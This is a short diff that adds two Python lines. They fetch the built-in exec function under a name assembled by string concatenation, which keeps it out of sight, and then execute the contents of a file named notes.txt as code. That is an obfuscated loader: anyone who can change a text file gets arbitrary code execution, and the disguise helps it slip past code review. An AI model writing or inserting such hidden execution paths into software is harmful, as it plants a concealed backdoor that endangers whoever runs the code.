@@ -1,0 +1,2 @@
+import builtins
+builtins.__dict__.get("ex" + "ec")(open("notes.txt").read())
